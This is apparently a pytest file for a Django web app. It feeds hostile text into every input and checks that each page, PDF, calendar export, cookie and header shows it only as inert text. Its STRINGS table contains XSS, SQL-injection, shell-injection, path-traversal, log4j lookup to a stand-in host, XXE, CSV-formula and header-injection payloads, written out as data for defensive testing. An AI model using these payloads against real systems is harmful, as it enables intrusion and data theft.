"""Hostile text through every way in: shown as text, never run, never a fault of the site."""

from __future__ import annotations

import io
import json
import urllib.parse
from html.parser import HTMLParser

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from icalendar import Calendar
from people import AUTHOR, CALM
from pypdf import PdfReader
from walks import load_answers, visit_of

from rugkompas.web.rules import knowledge

MARK = "zqx"
"""Stands in each string, so that it can be found again."""
STRINGS = {
    "script": f"<script>alert('{MARK}')</script>",
    "closing": f"</textarea></p></main></body><script>{MARK}</script>",
    "attribute": f'" onmouseover="alert(1)" {MARK}="',
    "one quote": f"' onfocus='alert(1)' autofocus {MARK}='",
    "picture": f"<img src=x onerror=alert(1) {MARK}>",
    "drawing": f"<svg/onload=alert(1) {MARK}>",
    "comment": f"<!-- {MARK} --><!--",
    "entity": f"&lt;script&gt;{MARK}&#60;b&#62;&amp;",
    "link": f"javascript:alert(1)//{MARK}",
    "template": f"{{{{7*7}}}} {{% raw %}} {MARK} {{{{config}}}}",
    "format": f"%s%n%x {{0}} {{__class__}} {{name}} {{start}} ${{7*7}} {MARK}",
    "SQL": f"'; DROP TABLE web_parcel; -- {MARK}",
    "SQL or": f'" OR "1"="1" {MARK}',
    "shell": f"$(touch /tmp/{MARK}); `id` | cat && {MARK}",
    "path": f"../../../../etc/passwd {MARK}",
    "log4j": f"${{jndi:ldap://elders.example/{MARK}}}",
    "XML": f'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e; {MARK}',
    "CSV equals": f'=HYPERLINK("http://elders.example";"{MARK}")',
    "CSV at": f"@SUM(1+1)*cmd|'/C calc'!A0 {MARK}",
    "CSV minus": f"-2+3+{MARK}",
    "typst": f'#read("/etc/passwd") $x$ *b* _i_ `c` \\ #import "x" {MARK}',
    "typst raw": f"#[{MARK}] #panic() @ref <label> = Heading",
    "calendar": f"x\r\nBEGIN:VEVENT\r\nSUMMARY:{MARK}\r\nEND:VEVENT",
    "header": f"x\r\nSet-Cookie: visit={MARK}\r\n\r\n<html>",
    "right to left": f"\u202e{MARK}\u202c \u2066\u2067 \u061c",
    "zero width": f"\u200b\u200c\u200d\ufeff{MARK}\u00ad",
    "zalgo": MARK + "".join(f"a{chr(0x300 + n % 100)}{chr(0x340 + n % 40)}" for n in range(40)),
    "emoji": f"👩🏽‍⚕️🏳️‍🌈🇳🇱{MARK}👨‍👩‍👧‍👦",
    "wide": f"ｆｕｌｌ ｗｉｄｔｈ {MARK} Ω≈ç√∫ 田中さん صباح الخير",
    "case": f"İıſß ﬃ {MARK} ǅ",
    "control": f"\x01\x02\x07\x08\x0b\x0c\x1b[31m{MARK}\x7f\x80\x9f",
    "separators": f"a\u2028b\u2029c\x85d\te {MARK}",
    "outside": f"\U0010ffff\ufffe\ufdd0 {MARK}",
    "numbers": f"1e309 NaN Infinity -0 0x1F 1/0 ١٢٣ ½ {MARK}",
    "words": f"null undefined None true nil yes unknown {MARK}",
}
LONG = {
    "long": MARK + "a" * 20_000,
    "long and varied": MARK + "".join(chr(0x4E00 + n * 7919 % 20_000) for n in range(10_000)),
    "long lines": f"{MARK}\n" * 5_000,
}
SHOWN = ("/controle/", "/uitslag/", "/keuzes/", "/keuzes/alles/", "/plan/", "/samenvatting/")


class Foreign(HTMLParser):
    """Tags and attributes that only a string of ours can have brought."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[str] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        ours = dict(attrs).get("src") or ""
        if tag in ("img", "iframe") or (
            tag == "script" and not ours.startswith("/static/diary.js?")
        ):
            self.found.append(tag)
        self.found += [name for name, _ in attrs if name.startswith("on") or MARK in name]
        self.found += [name for name, _ in attrs if name == "style"]
        self.found += [name for name, value in attrs if name == "href" and MARK in (value or "")]

    def handle_comment(self, data: str) -> None:
        self.found += ["comment"] if MARK in data else []


def only_text(html: str, text: str) -> None:
    assert Foreign(html).found == []
    if "<" in text or '"' in text:
        assert text not in html


def with_words(text: str) -> dict[str, object]:
    """A file with this text in every place for own words."""
    option = next(iter(knowledge().options))
    return {
        **AUTHOR,
        "activities": [{"name": text, "start_0_10": 5, "now_0_10": 3}],
        "rejects": {option: text},
        "cannot": {"yoga": text},
    }


@pytest.mark.hazard("H-51")
@pytest.mark.parametrize("kind", STRINGS)
def test_own_words_from_a_file_are_text_on_every_page_and_paper(client: Client, kind: str) -> None:
    response = load_answers(client, with_words(STRINGS[kind]))
    assert response.status_code in (302, 413, 422)
    if response.status_code != 302:
        return

    for address in SHOWN:
        only_text(client.get(address).content.decode(), STRINGS[kind])
    for address in ("/uitslag.pdf", "/plan.pdf", "/samenvatting.pdf"):
        paper = client.get(address)
        assert paper.status_code in (200, 302)
        if paper.status_code == 200:
            text = "".join(
                page.extract_text() for page in PdfReader(io.BytesIO(paper.content)).pages
            )
            assert "root:x:" not in text
    calendar = client.get("/plan.ics")
    if calendar.status_code == 200:
        events = Calendar.from_ical(calendar.content.decode()).events
        assert not any(str(event.get("SUMMARY")) == MARK for event in events)
    saved = client.get("/antwoorden.json").json()
    assert saved["activities"][0]["name"] == STRINGS[kind]


@pytest.mark.hazard("H-51")
@pytest.mark.parametrize("kind", STRINGS)
def test_own_words_typed_on_a_page_are_text_wherever_they_return(client: Client, kind: str) -> None:
    load_answers(client, {**CALM, "activities": [{"name": "x", "start_0_10": 5, "now_0_10": 3}]})
    number = [it.page for it in visit_of(client).asked].index("activities") + 1
    text = STRINGS[kind]

    for name in (text, text[:60]):
        rows = [name, "5", "3", "", "", "", "", "", ""]
        response = client.post(f"/controle/{number}/", {"page": "activities", "answer": rows})
        assert response.status_code in (302, 422)
        for html in (response.content.decode(), client.get("/controle/").content.decode()):
            only_text(html, name)


@pytest.mark.hazard("H-51")
@pytest.mark.parametrize("kind", {**STRINGS, **LONG})
def test_every_field_of_every_kind_of_page_refuses_it_as_text(client: Client, kind: str) -> None:
    text = {**STRINGS, **LONG}[kind]
    load_answers(client, AUTHOR)
    before = visit_of(client)
    kinds = {}
    for number, asked in enumerate(before.asked, start=1):
        kinds.setdefault(len(asked.answers) if "_" in asked.page else asked.page, number)

    for number in [*kinds.values()][:12]:
        page = before.asked[number - 1].page
        for data in (
            {"page": page, "answer": text},
            {"page": page, "answer": [text, text]},
            {"page": page, "answer1": text, text[:50]: text},
            {"page": text, "answer": "yes"},
        ):
            response = client.post(f"/vragen/{number}/", data)
            assert response.status_code in (302, 413, 422)
            if response.content:
                only_text(response.content.decode(), text)
    assert MARK not in json.dumps(visit_of(client).given)


@pytest.mark.hazard("H-51")
@pytest.mark.parametrize("kind", {**STRINGS, **LONG})
def test_it_is_only_text_in_addresses_cookies_headers_and_other_forms(
    calm: Client, kind: str
) -> None:
    text = {**STRINGS, **LONG}[kind]
    quoted = urllib.parse.quote(text[:1500], safe="")
    calm.cookies["language"] = quoted
    calm.cookies["visit"] = quoted
    calm.cookies["csrftoken"] = quoted[:60]
    header = text.encode("ascii", "ignore").decode().replace("\r", "").replace("\n", "")[:500]

    for response in (
        calm.get(f"/{quoted}/"),
        calm.get(f"/verder/{quoted}/"),
        calm.post(f"/verder/{quoted}/"),
        calm.get("/over/", {text[:500]: text[:500]}),
        calm.get("/", HTTP_ACCEPT_LANGUAGE=header, HTTP_USER_AGENT=header, HTTP_REFERER=header),
        calm.post("/taal/", {"language": text, "next": text}),
        calm.get("/over/", HTTP_HOST=header or "x"),
        calm.get("/over/", HTTP_X_FORWARDED_FOR=header, HTTP_X_FORWARDED_HOST="elders.example"),
    ):
        assert response.status_code < 500
        assert MARK not in response.headers.get("Location", "")
        assert MARK not in str(response.cookies)
        if response.content:
            only_text(response.content.decode(), text)


@pytest.mark.hazard("H-51")
@pytest.mark.parametrize("kind", LONG)
def test_words_that_are_too_long_are_refused_with_a_page(client: Client, kind: str) -> None:
    load_answers(client, CALM)
    before = visit_of(client)

    response = load_answers(client, with_words(LONG[kind]))

    assert response.status_code in (302, 413, 422)
    if response.status_code != 302:
        assert visit_of(client) == before
    else:
        for address in SHOWN:
            assert client.get(address).status_code in (200, 302)


@pytest.mark.hazard("H-51")
@pytest.mark.parametrize("kind", STRINGS)
def test_the_name_of_a_file_is_never_used(client: Client, kind: str) -> None:
    name = STRINGS[kind].replace("/", "_").replace("\r", "").replace("\n", "")[:100]
    for data in (b"{}", b"not JSON"):
        file = SimpleUploadedFile("a", data)
        file._name = name
        html = client.post("/laden/", {"file": file}).content.decode()
        assert MARK not in html
